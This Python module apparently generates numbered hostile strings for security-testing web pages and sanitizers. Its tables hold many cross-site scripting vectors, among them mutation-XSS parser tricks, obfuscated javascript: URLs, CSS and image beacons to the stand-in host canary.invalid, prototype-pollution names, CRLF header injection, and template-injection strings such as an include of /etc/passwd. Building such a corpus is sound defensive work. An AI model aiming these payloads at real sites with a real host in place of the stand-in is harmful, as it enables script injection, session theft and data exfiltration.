"""Hostile texts from a seeded grammar: markup, links, styles, encodings and names that turn a careless page against its host.

What runs calls ``pwned``, opens a dialog, or asks ``canary.invalid``; the number of a text stands in it, to find it again.
"""

import base64
import random
from collections.abc import Callable, Iterator
from dataclasses import dataclass

FIRST = 70_001

_CALLS = (
    "pwned({n})", "alert({n})", "top.pwned({n})", "self['pwn'+'ed']({n})", "fetch('//canary.invalid/{n}')", "pwned`{n}`",
    "eval('pwn'+'ed({n})')", "Function('pwned({n})')()", "confirm({n})", "new Image().src='//canary.invalid/{n}'",
    "[{n}].map(pwned)", "parent.pwned({n})", "location='//canary.invalid/{n}'", "import('//canary.invalid/{n}')",
)  # fmt: skip
_ELEMENTS = (
    "<script>{js}</script>", "<script src=//canary.invalid/{n}></script>", "<scr<script>ipt>{js}</scr</script>ipt>",
    "<script\x0c>{js}</script\x0c>", "<img{s}src=x{s}onerror={js}>", "<svg{s}onload={js}>", "<body{s}onload={js}>",
    "<input{s}autofocus{s}onfocus={js}>", "<details{s}open{s}ontoggle={js}><summary>x", "<video><source{s}onerror={js}>",
    "<audio{s}src=x{s}onerror={js}>", "<marquee{s}onstart={js}>", "<iframe{s}onload={js}>", "<style{s}onload={js}></style>",
    "<object{s}data=x{s}onerror={js}>", "<x{s}tabindex=1{s}autofocus{s}onfocus={js}>", "<a{s}onmouseover={js}>x</a>",
    "<select{s}autofocus{s}onfocus={js}>", "<textarea{s}autofocus{s}onfocus={js}>", "<link{s}rel=stylesheet{s}href=x{s}onerror={js}>",
    "<svg><script>{js}</script></svg>", "<svg><animate onbegin={js} attributeName=x dur=1s>", "<svg><set onbegin={js} attributename=x>",
    "<svg><foreignObject><img src=x onerror={js}></foreignObject></svg>", "<math><mi><img src=x onerror={js}></mi></math>",
    "<svg><image href=//canary.invalid/{n}></svg>", "<img src=//canary.invalid/{n}>", "<img srcset=//canary.invalid/{n}>",
    "<video poster=//canary.invalid/{n}>", "<link rel=stylesheet href=//canary.invalid/{n}>", "<iframe srcdoc='<script>{js}</script>'>",
)  # fmt: skip
_MUTATING = (
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={js}&gt;\">",
    "<noscript><p title=\"</noscript><img src=x onerror={js}>\">", "<svg></p><style><a id=\"</style><img src=1 onerror={js}>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={js}>", "<template><img src=x onerror={js}></template>",
    "<xmp><p title=\"</xmp><img src=x onerror={js}>\">", "<svg><title><style><img src='</style><img src=x onerror={js}>'>",
    "<select><template><style><!--</style><a rel=\"--></style></template></select><img src=x onerror={js}>\">",
    "<p id='<img src=x onerror={js}>'", "<plaintext><img src=x onerror={js}>", "<table><td><svg><desc><td><img src=x onerror={js}>",
)  # fmt: skip
_BREAKS = (
    '">', "'>", "</textarea>", "</title>", "</script>", "-->", "]]>", "</style>", "</option></select>", "</noscript>", '"/>', "`>", "\\\">",
    "</summary></details>", "</td></table>", "<!--<img title=-->", "</template>", "</svg>", "&quot;&gt;", "\u201d>",
)  # fmt: skip
_ATTRIBUTES = (
    '" autofocus onfocus={js} x="', "' onmouseover={js} '", '" style=animation-name:x onanimationstart={js} "', "x` onerror={js} `",
    '" formaction=javascript:{js} type=submit "', '" accesskey=x onclick={js} "', "'-{js}-'", '"-{js}-"', "\\'-{js}//", "\\u0022;{js}//",
)  # fmt: skip
_SCHEMES = (
    "javascript:{js}", "JaVaScRiPt:{js}", "java\tscript:{js}", "java\nscript:{js}", "\x01javascript:{js}", " javascript:{js}",
    "&#106;avascript:{js}", "&#x6A;avascript&colon;{js}", "javascript&#58;{js}", "javascript://%0a{js}", "java&Tab;script:{js}",
    "data:text/html,<script>{js}</script>", "data:text/html;base64,{b64}", "vbscript:msgbox({n})", "feed:javascript:{js}",
    "view-source:javascript:{js}", "ｊavascript:{js}", "javascript\u200b:{js}", "//canary.invalid/{n}", "\\\\canary.invalid\\{n}",
    "https:canary.invalid/{n}", "http://127.0.0.1@canary.invalid/{n}", "data:image/svg+xml,<svg onload={js}>", "blob:{js}",
    "javascript:/*--></title></style></textarea></script><svg/onload={js}>",
)  # fmt: skip
_LINKS = (
    "{url}", '<a href="{url}">x</a>', "<a href='{url}'>x</a>", "[x]({url})", "![x]({url})", "<{url}>", "[x]: {url}", "[x][1]\n\n[1]: {url}",
    '<form action="{url}"><button>x</button></form>', '<iframe src="{url}"></iframe>', '<object data="{url}"></object>',
    '<embed src="{url}">', '<base href="{url}">', '<meta http-equiv="refresh" content="0;url={url}">', '<button formaction="{url}">x',
    '<svg><a xlink:href="{url}"><text>x</text></a></svg>', '<math href="{url}">x</math>', '<area href="{url}">', "<a href={url} download>x</a>",
    '<svg><use href="{url}#x"/></svg>', '<svg><animate attributeName=href values="{url}"/><a><text>x',
)  # fmt: skip
_STYLES = (
    "<style>@import'//canary.invalid/{n}';</style>", '<p style="background:url(//canary.invalid/{n})">x</p>',
    "</style><style>*{{display:none}}/*{n}*/</style>", "<div style=position:fixed;inset:0;z-index:9999>{n}</div>",
    "<p style='width:expression({js})'>", "<p style=\"behavior:url(//canary.invalid/{n})\">", "x;background:url(//canary.invalid/{n})",
    "<style>@font-face{{font-family:x;src:url(//canary.invalid/{n})}}*{{font-family:x}}</style>",
)  # fmt: skip
_NAMES = (
    "__proto__{n}", "__proto__[pwned]={n}", "constructor.prototype.pwned={n}", '{{"__proto__":{{"pwned":{n}}}}}', "toString {n}",
    "hasOwnProperty({n})", "<form id=body name=cookie>{n}", "<a id=SERVER href=//canary.invalid/{n}>", "<img name=currentScript id=x{n}>",
)  # fmt: skip
_LINES = (
    "x\r\nSet-Cookie: pwned={n}", "x\r\n\r\n<script>{js}</script>", "%0d%0aLocation:%20//canary.invalid/{n}", "x\u2028{js}\u2029",
    "x%E5%98%8A%E5%98%8DSet-Cookie:%20x={n}", "data: {n}\n\nevent: answer\ndata: {{}}\n\n", "x\x0b<img src=x onerror={js}>",
)  # fmt: skip
_TEMPLATES = (
    "{{{{ 7*7 }}}}{{{{ {js} }}}}", "${{{js}}}", "{{% for x in ().__class__.__base__.__subclasses__() %}}{n}{{% endfor %}}",
    "{{{{constructor.constructor('{js}')()}}}}", "<%= {n} %>", "#{{{n}}}", "{{0.__class__}} {n}", "%(x)s {n}", "[[${{{n}}}]]", "{{{{ config }}}} {n}",
    "{{{{ self.__init__.__globals__ }}}} {n}", "@({n}*1)", "{{% include '/etc/passwd' %}} {n}", "{{{{ [].map.constructor('{js}')() }}}}",
)  # fmt: skip
_BIDI = "\u202e{x}\u202c", "\u2066{x}\u2069", "\u200f{x}\u200e", "\u061c{x}", "\ufeff{x}\u200b"
_SEPARATORS = " ", "\t", "\n", "/", "\x0c", "  "


@dataclass(frozen=True, slots=True, kw_only=True)
class Payload:
    """One hostile text; its ``number`` stands in it."""

    number: int
    kind: str
    text: str


def payloads(chance: random.Random, count: int) -> list[Payload]:
    """Return ``count`` of them, every kind as often as any other."""
    kinds = list(_KINDS)
    made = []
    for number in range(FIRST, FIRST + count):
        kind = kinds[number % len(kinds)]
        made.append(Payload(number=number, kind=kind, text=_KINDS[kind](chance, number)))
    return made


def batches(made: list[Payload], characters: int, most: int = 1000) -> Iterator[list[Payload]]:
    """Yield them in batches whose texts, with a blank between two, have at most so many characters."""
    batch: list[Payload] = []
    for payload in made:
        if batch and (len(batch) == most or len(joined([*batch, payload])) > characters):
            yield batch
            batch = []
        batch.append(payload)
    yield batch


def joined(batch: list[Payload]) -> str:
    """Return the texts of a batch as one."""
    return " ".join(payload.text for payload in batch)


def _call(chance: random.Random, n: int) -> str:
    return chance.choice(_CALLS).format(n=n)


def _filled(chance: random.Random, n: int, pattern: str) -> str:
    js = _call(chance, n)
    page = base64.b64encode(f"<script>{js}</script>".encode()).decode()
    text = pattern.format(n=n, js=js, s=chance.choice(_SEPARATORS), b64=page)
    return text if str(n) in text else f"{text} {n}"


def _element(chance: random.Random, n: int) -> str:
    text = _filled(chance, n, chance.choice(_ELEMENTS))
    if chance.random() < 0.2:
        head, tail = text.split(" ", 1) if " " in text else (text, "")
        text = f"{''.join(c.upper() if chance.random() < 0.5 else c for c in head)} {tail}"
    return text


def _link(chance: random.Random, n: int) -> str:
    url = _filled(chance, n, chance.choice(_SCHEMES))
    return chance.choice(_LINKS).replace("{url}", url)


def _encoded(chance: random.Random, n: int) -> str:
    text = _element(chance, n)
    ways: tuple[Callable[[str], str], ...] = (
        lambda t: t.replace("<", "&lt;").replace(">", "&gt;"),
        lambda t: t.replace("<", "&#60;").replace(">", "&#x3e;"),
        lambda t: t.replace("<", "%3C").replace(">", "%3E").replace('"', "%22"),
        lambda t: t.replace("<", "\\u003c").replace(">", "\\u003e"),
        lambda t: t.replace("<", "\\x3c").replace(">", "\\x3e"),
        lambda t: t.replace("<", "\uff1c").replace(">", "\uff1e"),
        lambda t: t.replace("<", "<\u200b"),
        lambda t: t.replace("<", "\u226a").replace(">", "\u226b"),
        lambda t: t.replace("<", "+ADw-").replace(">", "+AD4-"),
    )
    return chance.choice(ways)(text)


def _of(patterns: tuple[str, ...]) -> Callable[[random.Random, int], str]:
    return lambda chance, n: _filled(chance, n, chance.choice(patterns))


_KINDS: dict[str, Callable[[random.Random, int], str]] = {
    "elements": _element,
    "break-outs": lambda chance, n: chance.choice(_BREAKS) + _element(chance, n),
    "attributes": _of(_ATTRIBUTES),
    "links": _link,
    "mutating": _of(_MUTATING),
    "links again": _link,
    "styles": _of(_STYLES),
    "encoded": _encoded,
    "templates": _of(_TEMPLATES),
    "names": _of(_NAMES),
    "lines": _of(_LINES),
    "bidi": lambda chance, n: chance.choice(_BIDI).replace("{x}", _element(chance, n)),
}
